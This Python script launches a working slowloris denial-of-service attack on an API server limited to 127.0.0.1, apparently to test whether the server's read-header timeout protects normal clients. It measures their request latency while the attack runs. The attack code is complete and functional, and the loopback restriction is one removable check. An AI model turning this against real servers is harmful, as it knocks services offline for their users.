#!/usr/bin/env python3
"""slowloris.py URL [CONNECTIONS] [TOKEN]: a slowloris attack on a running API server, and a normal client beside it.

Opens CONNECTIONS (default 2000) TLS connections to URL (which must be on 127.0.0.1), each sending the start of a
request and then one byte of a header that never ends every second, while normal clients send GETs
(GET /api/v1/namespaces/default with TOKEN as a bearer token, else GET /readyz): one every 0.2 s on a kept-alive
connection, one every second on a new connection. Stops when the server has closed every attacking connection or after
the longest wait (the server's read-header timeout is 32 s by default: start it with --read-header-timeout to shorten
the run). Prints RESULT lines:

  RESULT slowloris=2000 opened=2000 refused=0 closed_by_server=2000 still_open=0 elapsed_s=40.1
  RESULT normal_fresh requests=38 ok=38 median_s=0.210 max_s=3.10 (GETs each on a new connection)
  RESULT normal_kept requests=190 ok=190 median_s=0.004 max_s=0.05 (GETs on one kept-alive connection)

Only the Python standard library; talks only to 127.0.0.1.
"""
import asyncio
import http.client
import multiprocessing
import ssl
import sys
import time
from urllib.parse import urlparse

MAX_WAIT_S = 300
HANDSHAKES_AT_ONCE = 64


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attack needs no trust; the server is on loopback
    return ctx


async def attacker(host, port, ctx, gate, stats):
    async with gate:
        try:
            reader, writer = await asyncio.open_connection(host, port, ssl=ctx)
        except OSError:
            stats["refused"] += 1
            return
    stats["opened"] += 1
    try:
        writer.write(b"GET /api/v1/namespaces HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: ")
        while True:
            writer.write(b"a")
            await writer.drain()
            try:
                data = await asyncio.wait_for(reader.read(4096), 1.0)
            except asyncio.TimeoutError:
                continue
            if not data:  # the server closed the connection (it never answers a request it did not finish reading)
                stats["closed"] += 1
                return
    except (ConnectionError, ssl.SSLError, OSError):
        stats["closed"] += 1
    finally:
        writer.close()


def normal_client(host, port, token, fresh, stop, results):
    """GETs every 0.2 s on one kept-alive connection (as a client library does), or every second each on a new one.
    Runs in its own process, so that what it measures is the server, not this script's event loop."""
    path = "/api/v1/namespaces/default" if token else "/readyz"
    headers = {"Authorization": "Bearer " + token} if token else {}
    requests, ok, latencies, conn = 0, 0, [], None
    while not stop.is_set():
        requests += 1
        started = time.monotonic()
        try:
            if conn is None:
                conn = http.client.HTTPSConnection(host, port, context=tls_context(), timeout=60)
            conn.request("GET", path, headers=headers)
            response = conn.getresponse()
            response.read()
            if response.status == 200:
                ok += 1
                latencies.append(time.monotonic() - started)
        except (OSError, http.client.HTTPException):
            conn = None
        if fresh and conn is not None:
            conn.close()
            conn = None
        stop.wait(1.0 if fresh else 0.2)
    latencies.sort()
    median = latencies[len(latencies) // 2] if latencies else 0
    results.put(("fresh" if fresh else "kept", requests, ok, median, latencies[-1] if latencies else 0))


async def main():
    url = urlparse(sys.argv[1])
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
    token = sys.argv[3] if len(sys.argv) > 3 else ""
    host, port = url.hostname, url.port or 443
    if host not in ("127.0.0.1", "localhost"):
        sys.exit("URL must be on 127.0.0.1")
    ctx = tls_context()
    stats = dict(opened=0, refused=0, closed=0)
    stop, results = multiprocessing.Event(), multiprocessing.Queue()
    normal = [multiprocessing.Process(target=normal_client, args=(host, port, token, fresh, stop, results))
              for fresh in (False, True)]
    for p in normal:
        p.start()
    started = time.monotonic()
    gate = asyncio.Semaphore(HANDSHAKES_AT_ONCE)
    attackers = [asyncio.create_task(attacker(host, port, ctx, gate, stats)) for _ in range(count)]
    done, pending = await asyncio.wait(attackers, timeout=MAX_WAIT_S)
    for t in pending:
        t.cancel()
    elapsed = time.monotonic() - started
    stop.set()
    measured = sorted(results.get() for _ in normal)
    for p in normal:
        p.join()
    print("RESULT slowloris=%d opened=%d refused=%d closed_by_server=%d still_open=%d elapsed_s=%.1f"
          % (count, stats["opened"], stats["refused"], stats["closed"], len(pending), elapsed))
    for key, requests, ok, median, longest in measured:
        what = "each on a new connection" if key == "fresh" else "on one kept-alive connection"
        print("RESULT normal_%s requests=%d ok=%d median_s=%.3f max_s=%.2f (GETs %s)"
              % (key, requests, ok, median, longest, what))


if __name__ == "__main__":
    asyncio.run(main())
